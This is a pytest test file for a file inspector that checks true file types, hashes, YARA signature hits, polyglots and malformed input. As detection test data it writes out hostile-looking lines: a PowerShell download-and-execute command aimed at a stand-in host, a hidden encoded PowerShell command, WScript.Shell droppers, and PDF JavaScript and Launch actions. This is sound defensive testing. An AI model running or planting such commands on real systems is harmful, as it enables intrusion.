"""The inspector on single files: true type, claims, hashes, YARA signatures, polyglots, bad input."""

from __future__ import annotations

import hashlib
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yara

import inspect_samples as S
from imguard.inspect import FAMILIES, InspectLimits, Inspector, load_signatures
from imguard.inspect.signatures import Signatures
from imguard.model import (LIMIT_HIT, POLYGLOT, REASON_SCANNER_ERROR, REASON_TIMEOUT, REASON_TOO_LARGE,
                           REASON_UNREADABLE, TYPE_MISMATCH, UNSCANNABLE, YARA_MATCH, ChatContext, FileReport)

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def inspector() -> Inspector:
    return Inspector(load_signatures(ROOT / "signatures"), InspectLimits())


def rules_hit(report: FileReport) -> set[str]:
    return {f.data["rule"] for f in report.yara_matches}


def kinds(report: FileReport) -> list[str]:
    return [f.kind for f in report.findings]


# --- type, hashes, claims ------------------------------------------------------------------------

def test_magic_bytes_bounds_what_libmagic_sees():
    signatures = load_signatures(ROOT / "signatures")
    docx = S.docm(with_macro=False)
    assert Inspector(signatures, InspectLimits()).inspect(docx, name="a.docx").family == "office"
    short = Inspector(signatures, InspectLimits(magic_bytes=16)).inspect(docx, name="a.docx")
    assert short.mime == "application/octet-stream"      # 16 bytes do not show the OOXML part names


def test_hashes_and_size_are_those_of_the_content(inspector):
    data = b"hello chat\n" * 1000
    report = inspector.inspect(data, name="note.txt")
    assert report.size == len(data)
    assert report.sha256 == hashlib.sha256(data).hexdigest()
    assert report.sha1 == hashlib.sha1(data).hexdigest()
    assert report.md5 == hashlib.md5(data).hexdigest()
    assert (report.mime, report.family, report.extension) == ("text/plain", "text", "txt")
    assert report.findings == []


def test_large_buffers_are_hashed_off_thread_with_the_same_result(inspector):
    data = bytes(range(256)) * 8192        # 2 MiB, over HASH_ASYNC_MIN
    report = inspector.inspect(data, name="blob.bin")
    assert report.sha256 == hashlib.sha256(data).hexdigest()
    assert report.md5 == hashlib.md5(data).hexdigest()


def test_digests_setting_chooses_the_hashes():
    signatures = load_signatures(ROOT / "signatures")
    data = bytes(range(256)) * 4096          # over HASH_ASYNC_MIN: the helper-thread path
    for payload in (data, b"small"):
        report = Inspector(signatures, InspectLimits(digests="sha256")).inspect(payload, name="x")
        assert report.sha256 == hashlib.sha256(payload).hexdigest() and report.sha1 == report.md5 == ""
    with pytest.raises(ValueError):
        Inspector(signatures, InspectLimits(digests="sha256,crc32"))


@pytest.mark.parametrize("name, sample, family", [
    ("a.exe", S.pe, "executable"), ("a.elf", S.elf, "executable"), ("a.dylib", S.macho, "executable"),
    ("fat.dylib", S.macho_fat, "executable"), ("a.png", S.png, "image"), ("a.jpg", S.jpeg, "image"),
    ("a.gif", S.gif, "image"), ("a.pdf", S.pdf, "pdf"), ("a.docm", S.docm, "office_macro"),
    ("a.docx", lambda: S.docm(with_macro=False), "office"), ("a.lnk", S.lnk, "script"),
    ("a.zip", lambda: S.zip_bytes({"a.txt": b"x"}), "archive"), ("a.gz", lambda: S.gz(b"x"), "archive"),
])
def test_true_type_and_family(inspector, name, sample, family):
    report = inspector.inspect(sample(), name=name)
    assert report.family == family, (report.mime, report.description)
    assert report.family in FAMILIES
    assert TYPE_MISMATCH not in kinds(report)


def test_pe_named_invoice_pdf_is_a_type_mismatch(inspector):
    report = inspector.inspect(S.pe(), name="invoice.pdf", claimed_mime="application/pdf")
    [mismatch] = [f for f in report.findings if f.kind == TYPE_MISMATCH]
    assert mismatch.data == {"claimed_extension": "pdf", "claimed_mime": "application/pdf",
                             "detected_mime": "application/vnd.microsoft.portable-executable",
                             "detected_family": "executable"}
    assert "Executable_PE" in rules_hit(report)


def test_jpg_that_is_a_zip_is_a_type_mismatch(inspector):
    report = inspector.inspect(S.zip_bytes({"a.txt": b"x"}), name="holiday.jpg")
    assert TYPE_MISMATCH in kinds(report)


def test_claimed_mime_alone_is_compared(inspector):
    report = inspector.inspect(S.pe(), name="", claimed_mime="image/png")
    assert TYPE_MISMATCH in kinds(report)


@pytest.mark.parametrize("name, data, claimed_mime", [
    ("report.docx", S.docm(with_macro=False), "application/zip"),          # docx is a zip
    ("report.zip", S.docm(with_macro=False), ""),
    ("script.txt", b"import os\n\ndef main():\n    print(os.getcwd())\n", "text/plain"),   # text is lenient
    ("photo.jpg", S.png(), "image/jpeg"),                                   # an image is an image
    ("anything.bin", S.pe(), "application/octet-stream"),                   # generic claims say nothing
    ("empty.pdf", b"", "application/pdf"),                                  # empty contradicts nothing
    ("noextension", S.pe(), ""),
])
def test_benign_mismatches_are_not_reported(inspector, name, data, claimed_mime):
    report = inspector.inspect(data, name=name, claimed_mime=claimed_mime)
    assert TYPE_MISMATCH not in kinds(report), report.findings


def test_member_names_are_checked_too(inspector):
    report = inspector.inspect(S.zip_bytes({"docs/invoice.pdf": S.pe()}), name="mail.zip")
    member = report.members[0]
    assert member.path == "mail.zip!docs/invoice.pdf" and member.depth == 1
    assert TYPE_MISMATCH in kinds(member)
    assert {f.path for f in member.findings} == {"mail.zip!docs/invoice.pdf"}


# --- bundled signatures --------------------------------------------------------------------------

def test_eicar_alone_and_inside_text(inspector):
    assert "EICAR_Test_File" in rules_hit(inspector.inspect(S.EICAR, name="eicar.com"))
    text = b"Please forward this to IT.\n" + S.EICAR + b"\nThanks\n"
    assert "EICAR_Test_File" in rules_hit(inspector.inspect(text, name="mail.txt"))
    assert rules_hit(inspector.inspect(b"EICAR is a test file, this is not it.", name="x.txt")) == set()


@pytest.mark.parametrize("sample, rule", [
    (S.pe, "Executable_PE"), (S.elf, "Executable_ELF"), (S.macho, "Executable_MachO"),
    (S.macho_fat, "Executable_MachO_Fat"), (S.lnk, "Script_Windows_Shortcut_LNK"),
    (S.fake_vba_project, "Office_VBA_Project"),
])
def test_header_rules(inspector, sample, rule):
    assert rule in rules_hit(inspector.inspect(sample(), name="x"))


def test_java_class_is_not_a_fat_mach_o(inspector):
    assert rules_hit(inspector.inspect(S.java_class(), name="A.class")) == set()


def test_mz_without_pe_header_is_not_pe(inspector):
    assert "Executable_PE" not in rules_hit(inspector.inspect(b"MZ" + b"\0" * 200, name="x"))


def test_docm_macro_found_on_the_vbaproject_member(inspector):
    report = inspector.inspect(S.docm(), name="budget.docm",
                               claimed_mime="application/vnd.ms-word.document.macroEnabled.12")
    assert report.family == "office_macro"
    vba = [m for m in report.members if m.name == "word/vbaProject.bin"][0]
    [hit] = [f for f in vba.findings if f.kind == YARA_MATCH]
    assert hit.data["rule"] == "Office_VBA_Project" and hit.data["namespace"] == "office_macro"
    assert "macro" in hit.data["tags"] and hit.data["meta"]["severity"] == "high"
    assert hit.path == "budget.docm!word/vbaProject.bin"
    assert "Office_OOXML_With_VBA" in {f.data["rule"] for f in report.findings if f.kind == YARA_MATCH}
    assert TYPE_MISMATCH not in [f.kind for f in report.all_findings()]


def test_password_protected_office_document_is_encrypted(inspector):
    data = S.fake_vba_project().replace("_VBA_PROJECT".encode("utf-16-le"), "EncryptedPackage".encode("utf-16-le"))
    report = inspector.inspect(data, name="salaries.xlsx")
    assert report.encrypted and "encrypted" in kinds(report)
    assert report.unscannable_reasons == ["encrypted"]


def test_docx_without_macro_matches_nothing(inspector):
    report = inspector.inspect(S.docm(with_macro=False), name="plain.docx")
    assert report.yara_matches == [] and report.family == "office"


@pytest.mark.parametrize("text, rule", [
    (b'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("cmd /c calc");\n', "Script_JS_Shell_Dropper"),
    (b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', "Script_VBS_Shell_Dropper"),
    (b"powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\n", "Script_PowerShell_Encoded_Command"),
    (b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')\n",
     "Script_PowerShell_Download_Execute"),
    (b'<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"></head><body></body></html>',
     "Script_HTA_Application"),
])
def test_script_dropper_rules(inspector, text, rule):
    assert rule in rules_hit(inspector.inspect(text, name="x.txt"))


def test_hta_is_of_the_script_family(inspector):
    report = inspector.inspect(b'<html><head><hta:application id="x"></head></html>', name="a.hta")
    assert report.family == "script"


def test_benign_scripts_match_nothing(inspector):
    benign = b"# build\nset -e\necho 'the shell is here'\npython -m pytest\n"
    assert rules_hit(inspector.inspect(benign, name="build.sh")) == set()


@pytest.mark.parametrize("body, expected", [
    (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", {"PDF_JavaScript", "PDF_OpenAction_JavaScript"}),
    (b"/Names << /JS 3 0 R >>", {"PDF_JavaScript"}),
    (b"/OpenAction << /S /Launch /F (calc.exe) >>", {"PDF_Launch_Action"}),
    (b"/Lang (en)", set()),
])
def test_pdf_active_content_rules(inspector, body, expected):
    assert rules_hit(inspector.inspect(S.pdf(body), name="a.pdf")) == expected


def test_javascript_hidden_in_a_compressed_object_stream(inspector):
    import zlib
    objects = b"9 0 << /S /JavaScript /JS (app.alert('hidden')) >>"
    data = S.pdf_with_streams(b"/OpenAction 9 0 R", [(b"/Type /ObjStm /N 1 /First 6 /Filter /FlateDecode",
                                                      zlib.compress(objects))])
    report = inspector.inspect(data, name="form.pdf")
    hits = {(f.path, f.data["rule"]) for f in report.yara_matches}
    assert ("form.pdf!<pdf-decoded>", "PDF_OpenAction_JavaScript") in hits
    assert not any(path == "" for path, _ in hits)            # the raw file alone shows nothing
    [view] = [m for m in report.members if m.name == "<pdf-decoded>"]
    assert view.sha256 == "" and view.family == "pdf"          # derived, not a file: no hashes


def test_pdf_embedded_file_is_inspected_as_a_member(inspector):
    import zlib
    data = S.pdf_with_streams(b"", [(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(S.pe()))])
    report = inspector.inspect(data, name="invoice.pdf")
    [member] = [m for m in report.members if m.name.startswith("<embedded@")]
    assert member.family == "executable" and "Executable_PE" in rules_hit(member)
    assert member.sha256 == hashlib.sha256(S.pe()).hexdigest()


def test_pdf_images_and_broken_streams_are_left_alone(inspector):
    import zlib
    data = S.pdf_with_streams(b"", [(b"/Subtype /Image /Filter /FlateDecode", zlib.compress(b"\0" * 5000)),
                                    (b"/Filter /FlateDecode", b"this is not zlib data at all")])
    report = inspector.inspect(data, name="scan.pdf")
    assert report.members == [] and report.findings == []


def test_pdf_flate_bomb_hits_the_ratio_limit(inspector):
    import zlib
    data = S.pdf_with_streams(b"", [(b"/Filter /FlateDecode", zlib.compress(bytes(50 * 1024 * 1024), 9))])
    report = inspector.inspect(data, name="bomb.pdf")
    assert {f.data["setting"] for f in report.findings if f.kind == LIMIT_HIT} == {"max_compression_ratio"}


def test_yara_externals_carry_the_context(tmp_path):
    (tmp_path / "ctx.yar").write_text(
        'rule ctx { condition: filename == "evil.exe" and extension == ".exe" and filetype == "EXE" and '
        'mime == "application/vnd.microsoft.portable-executable" and filepath == "mail.zip!dir/evil.exe" and '
        'protocol == "xmpp" and direction == "outbound" and sender == "alice@corp.example" and '
        'owner == "alice@corp.example" and recipient == "bob@ext.example,carol@ext.example" and '
        'archive_depth == 1 }')
    inspector = Inspector(load_signatures(tmp_path), InspectLimits())
    context = ChatContext(protocol="xmpp", direction="outbound", sender="alice@corp.example",
                          recipients=("bob@ext.example", "carol@ext.example"))
    report = inspector.inspect(S.zip_bytes({"dir/evil.exe": S.pe()}), context, name="mail.zip")
    assert rules_hit(report) == {"ctx"}
    assert report.members[0].yara_matches[0].path == "mail.zip!dir/evil.exe"


# --- polyglots -----------------------------------------------------------------------------------

def test_png_followed_by_zip_is_a_polyglot_and_the_zip_is_inspected(inspector):
    image = S.png()
    data = image + S.zip_bytes({"eicar.com": S.EICAR})
    report = inspector.inspect(data, name="cat.png")
    [poly] = [f for f in report.findings if f.kind == POLYGLOT]
    assert poly.data == {"format": "png", "trailing_offset": len(image), "trailing_bytes": len(data) - len(image),
                         "trailing_type": "application/zip"}
    [appended] = report.members
    assert appended.path == f"cat.png!<appended@{len(image)}>" and appended.depth == 1
    assert appended.members[0].path == f"cat.png!<appended@{len(image)}>!eicar.com"
    assert "EICAR_Test_File" in rules_hit(report)


@pytest.mark.parametrize("host, fmt", [(S.jpeg, "jpeg"), (S.gif, "gif"), (S.pdf, "pdf")])
def test_appended_pe_after_image_or_pdf(inspector, host, fmt):
    head = host()
    report = inspector.inspect(head + S.pe(), name="x")
    [poly] = [f for f in report.findings if f.kind == POLYGLOT]
    assert poly.data["format"] == fmt and poly.data["trailing_offset"] == len(head)
    assert "executable" in poly.data["trailing_type"] or "dosexec" in poly.data["trailing_type"]
    assert "Executable_PE" in {f.data["rule"] for f in report.members[0].findings if f.kind == YARA_MATCH}


def test_pdf_followed_by_zip(inspector):
    head = S.pdf()
    report = inspector.inspect(head + S.zip_bytes({"run.exe": S.pe()}), name="doc.pdf")
    polys = [f for f in report.findings if f.kind == POLYGLOT]
    assert polys and polys[0].data["trailing_offset"] == len(head)
    assert polys[0].data["trailing_type"] == "application/zip"


def test_data_appended_to_a_zip_is_found(inspector):
    archive = S.zip_bytes({"readme.txt": b"hello"})
    report = inspector.inspect(archive + S.pe(), name="docs.zip")
    [poly] = [f for f in report.findings if f.kind == POLYGLOT]
    assert poly.data["format"] == "zip" and poly.data["trailing_offset"] == len(archive)
    assert "Executable_PE" in rules_hit(report)
    both = inspector.inspect(archive + S.zip_bytes({"e.com": S.EICAR}), name="two.zip")
    assert [f.data["trailing_offset"] for f in both.findings if f.kind == POLYGLOT] == [len(archive)]
    assert POLYGLOT not in kinds(inspector.inspect(S.docm(), name="a.docm"))


def test_zip_behind_an_arbitrary_prefix_is_found(inspector):
    prefix = S.pe()
    report = inspector.inspect(prefix + S.zip_bytes({"eicar.com": S.EICAR}), name="setup.exe")
    [poly] = [f for f in report.findings if f.kind == POLYGLOT]
    assert poly.data["format"] == "zip_prefix" and poly.data["trailing_offset"] == len(prefix)
    assert "EICAR_Test_File" in rules_hit(report)


@pytest.mark.parametrize("data", [S.png(), S.png() + b"\0" * 64, S.jpeg() + b"\r\n", S.gif(), S.pdf(),
                                  S.pdf() + b"\n\n"])
def test_no_polyglot_for_clean_files_or_padding(inspector, data):
    assert POLYGLOT not in kinds(inspector.inspect(data, name="x"))


# --- bad input -----------------------------------------------------------------------------------

def test_empty_file(inspector):
    report = inspector.inspect(b"", name="nothing.txt")
    assert (report.size, report.family, report.findings) == (0, "empty", [])
    assert report.sha256 == hashlib.sha256(b"").hexdigest()


def test_binary_garbage(inspector):
    import random
    data = random.Random(7).randbytes(100_000)
    report = inspector.inspect(data, name="x.bin")
    assert report.family == "other" and report.findings == []


@pytest.mark.parametrize("data", [b"PK\x03\x04" + b"\xff" * 60, b"\x1f\x8b\x08\x00" + b"\x00" * 20,
                                  b"BZh9" + b"\x01" * 40, b"\xfd7zXZ\x00" + b"\x02" * 40, b"\x89PNG\r\n\x1a\n\xff\xff",
                                  b"\xff\xd8\xff\xe0\xff\xff", b"GIF89a\x01", b"%PDF-", b"MZ\xff\xff"])
def test_broken_headers_never_raise(inspector, data):
    report = inspector.inspect(data, name="x")
    assert isinstance(report, FileReport)


def test_unreadable_paths_are_reported_not_raised(inspector, tmp_path):
    missing = inspector.inspect(tmp_path / "missing.exe")
    assert missing.unscannable_reasons == [REASON_UNREADABLE] and missing.name == "missing.exe"
    directory = inspector.inspect(tmp_path)
    assert directory.unscannable_reasons == [REASON_UNREADABLE]


def test_path_input_is_read(inspector, tmp_path):
    target = tmp_path / "eicar.com"
    target.write_bytes(S.EICAR)
    report = inspector.inspect(target)
    assert report.name == "eicar.com" and "EICAR_Test_File" in rules_hit(report)


def test_too_large_bytes_are_hashed_but_not_scanned(tmp_path):
    inspector = Inspector(load_signatures(ROOT / "signatures"), InspectLimits(max_file_size=1000))
    data = S.EICAR * 100
    report = inspector.inspect(data, name="big.txt")
    assert report.unscannable_reasons == [REASON_TOO_LARGE]
    assert report.sha256 == hashlib.sha256(data).hexdigest() and report.mime == "text/plain"
    assert report.yara_matches == []
    [limit] = [f for f in report.findings if f.kind == LIMIT_HIT]
    assert limit.data == {"setting": "max_file_size", "value": 1000}


def test_too_large_path_is_streamed_for_hashes_only(tmp_path):
    target = tmp_path / "big.bin"
    target.write_bytes(S.pe() + bytes(50_000))
    report = Inspector(load_signatures(ROOT / "signatures"), InspectLimits(max_file_size=10_000)).inspect(target)
    assert report.unscannable_reasons == [REASON_TOO_LARGE] and report.size == target.stat().st_size
    assert report.md5 == hashlib.md5(target.read_bytes()).hexdigest() and report.family == "executable"
    no_hash = Inspector(load_signatures(ROOT / "signatures"), InspectLimits(max_file_size=10_000, max_hash_size=0))
    assert no_hash.inspect(target).sha256 == ""


def test_too_large_path_is_not_read_beyond_the_magic_bytes(tmp_path, monkeypatch):
    """Without hashes to compute, an oversized file costs one read of magic_bytes, whatever its size."""
    import builtins
    target = tmp_path / "huge.bin"
    target.write_bytes(bytes(3_000_000))
    counted = []
    real_open = builtins.open

    class Counting:
        def __init__(self, handle):
            self.handle = handle

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.handle.close()

        def read(self, size=-1):
            data = self.handle.read(size)
            counted.append(len(data))
            return data

        def seek(self, *args):
            return self.handle.seek(*args)

    def counting_open(path, mode="r", *args, **kwargs):
        handle = real_open(path, mode, *args, **kwargs)
        return Counting(handle) if Path(path) == target else handle

    monkeypatch.setattr(builtins, "open", counting_open)
    limits = InspectLimits(max_file_size=10_000, max_hash_size=0)
    report = Inspector(load_signatures(ROOT / "signatures"), limits).inspect(target)
    assert report.unscannable_reasons == [REASON_TOO_LARGE] and sum(counted) == limits.magic_bytes


def test_scan_timeout_gives_unscannable_timeout(tmp_path):
    (tmp_path / "slow.yar").write_text(
        "rule slow { condition: for all i in (0..filesize - 1) : "
        "( for all j in (0..filesize - 1) : ( uint8(i) + uint8(j) < 600 ) ) }")
    inspector = Inspector(load_signatures(tmp_path), InspectLimits(scan_timeout=1))
    report = inspector.inspect(bytes(200_000), name="x")
    assert report.unscannable_reasons == [REASON_TIMEOUT]


def test_too_many_matches_is_reported_as_incomplete(tmp_path):
    (tmp_path / "noisy.yar").write_text("rule noisy { strings: $a = { 61 61 } condition: #a > 5 }")
    report = Inspector(load_signatures(tmp_path), InspectLimits()).inspect(b"a" * 1_200_000, name="a.txt")
    [finding] = [f for f in report.findings if f.kind == UNSCANNABLE]
    assert finding.data["reason"] == REASON_SCANNER_ERROR and finding.data["warning"] == "too_many_matches"
    assert finding.data["rule"] == "noisy" and finding.data["string"] == "$a"


def test_an_internal_error_is_reported_not_raised(monkeypatch, inspector):
    monkeypatch.setattr(inspector, "_polyglots", lambda *a: 1 / 0)
    report = inspector.inspect(b"data", name="x.txt")
    assert report.unscannable_reasons == [REASON_SCANNER_ERROR] and "ZeroDivisionError" in report.findings[0].detail


def test_too_large_files_still_get_the_type_check(tmp_path):
    inspector = Inspector(load_signatures(ROOT / "signatures"), InspectLimits(max_file_size=100))
    report = inspector.inspect(S.pe(), name="invoice.pdf")
    assert TYPE_MISMATCH in kinds(report) and report.unscannable_reasons == [REASON_TOO_LARGE]


def test_scanner_error_gives_unscannable_scanner_error():
    class BrokenRules:
        def match(self, **kwargs):
            raise yara.Error("could not map file")
    signatures = Signatures(rules=BrokenRules(), version="x", rule_names=frozenset())
    report = Inspector(signatures, InspectLimits()).inspect(b"data", name="x")
    assert report.unscannable_reasons == [REASON_SCANNER_ERROR]


# --- threads, imports, settings ------------------------------------------------------------------

def test_concurrent_inspections_give_the_same_reports(inspector):
    samples = [(S.docm(), "a.docm"), (S.png() + S.zip_bytes({"e.com": S.EICAR}), "b.png"), (S.pe(), "c.pdf"),
               (S.gz(S.tar_bytes({"x.txt": b"hello " * 5000})), "d.tar.gz"), (bytes(range(256)) * 4096, "e.bin")]
    expected = [inspector.inspect(data, name=name).to_dict() for data, name in samples]
    results: list[list] = [[] for _ in range(4)]

    def work(slot: int) -> None:
        for _ in range(5):
            results[slot].append([inspector.inspect(data, name=name).to_dict() for data, name in samples])

    threads = [threading.Thread(target=work, args=(i,)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for slot in results:
        assert all(run == expected for run in slot)


def test_inspect_package_does_not_import_mitmproxy():
    code = ("import sys, imguard.inspect; "
            "bad = [m for m in sys.modules if m.startswith('mitmproxy')]; assert not bad, bad")
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT)


def test_every_limit_is_documented():
    import dataclasses
    for field in dataclasses.fields(InspectLimits):
        assert len(field.metadata.get("help", "")) > 40, field.name
    with pytest.raises(dataclasses.FrozenInstanceError):
        InspectLimits().max_file_size = 1


def test_a_program_that_mentions_the_7z_or_rar_signature_is_not_a_self_extractor(inspector):
    """7-Zip and WinRAR carry their formats' signatures as constants: only a header with a valid CRC counts."""
    data = S.pe() + b"\0" * 64 + b"7z\xbc\xaf\x27\x1c" + b"\0" * 40 + b"Rar!\x1a\x07\x00" + b"\0" * 40 + \
        b"Rar!\x1a\x07\x01\x00" + b"\0" * 40
    report = inspector.inspect(data, name="7z.exe")
    assert not [f for f in report.all_findings() if f.kind in ("polyglot", "unscannable")]
